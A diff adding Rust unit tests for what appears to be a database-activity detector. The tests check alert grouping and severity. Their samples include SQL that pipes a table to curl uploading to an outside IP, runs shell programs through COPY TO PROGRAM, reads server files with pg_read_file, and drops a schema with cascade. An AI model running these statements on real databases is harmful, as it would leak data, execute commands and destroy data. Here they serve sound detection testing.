@@ -106,3 +106,56 @@ fn what_joins_an_unusual_day_is_told_alone() {
     assert!(texts.engineer.contains("`dbeaver`") && !texts.engineer.contains("10.9.9.0/24"));
     assert_eq!(texts.observed.len(), 1, "{:?}", texts.observed);
 }
+
+/// A function runs two programs: the second is not hidden behind the first, nor counted twice.
+#[test]
+fn every_cause_of_one_statement_joins() {
+    let mut stream = Stream::new("bo", "10.0.0.9", "psql");
+    let inner = [
+        "copy t to program '/opt/etl/pack.sh'",
+        "copy t to program 'curl -T - https://198.51.100.9'",
+        "copy t to program '/opt/etl/pack.sh'",
+    ];
+    for (after, sql) in (0..).zip(inner) {
+        stream.run(after, "COPY", sql).statement_number = Some(4);
+    }
+    let observed = observe(&mut detector(), &stream);
+    let changes: Vec<_> = observed.alerts.iter().map(|alert| alert.change).collect();
+    assert_eq!(changes, [CaseChange::Opened, CaseChange::Extended], "{:#?}", observed.alerts);
+    let case = &observed.cases[0];
+    assert_eq!((case.signals, case.causes_total), (2, 2), "{case:#?}");
+}
+
+/// What was only seen as minor before is told when the same statement does worse.
+#[test]
+fn a_graver_part_of_one_statement_is_told() {
+    let mut stream = Stream::new("bo", "10.0.0.9", "psql");
+    stream.run(0, "DROP TABLE", "drop table app.a").statement_number = Some(4);
+    stream.run(1, "DROP SCHEMA", "drop schema app cascade").statement_number = Some(4);
+    stream.run(2, "DROP TABLE", "drop table app.b").statement_number = Some(4);
+    let observed = observe(&mut detector(), &stream);
+    let worst = observed.alerts.iter().map(|alert| alert.severity).max();
+    assert_eq!(observed.cases.iter().map(|case| case.severity).max(), worst);
+    assert_eq!(worst, Some(Severity::Critical), "{:#?}", observed.alerts);
+}
+
+/// Three hundred files are read, then a program runs: the list of causes keeps what is graver.
+#[test]
+fn a_full_list_of_causes_makes_room_for_a_graver_one() {
+    let mut stream = Stream::new("bo", "10.0.0.9", "psql");
+    for number in 0..300 {
+        let sql = format!("select pg_read_file('/srv/{number}')");
+        stream.run(number * 1_000, "SELECT", &sql);
+    }
+    stream.run(HOUR, "COPY", "copy t to program 'id'");
+    for number in 0..300 {
+        let sql = format!("select pg_read_file('/srv/{number}')");
+        stream.run(HOUR + MINUTE + number * 1_000, "SELECT", &sql);
+    }
+    let observed = observe(&mut detector(), &stream);
+    let [case] = &observed.cases[..] else { panic!("{:#?}", observed.cases) };
+    assert_eq!((case.signals, case.causes_total, case.causes.len()), (601, 301, 64));
+    let counts: Vec<_> = case.causes.iter().map(|it| (it.rule.as_str(), it.signals)).collect();
+    assert_eq!(counts[..63], [("D02", 2); 63], "the oldest stay");
+    assert_eq!(counts[63], ("D01", 1));
+}
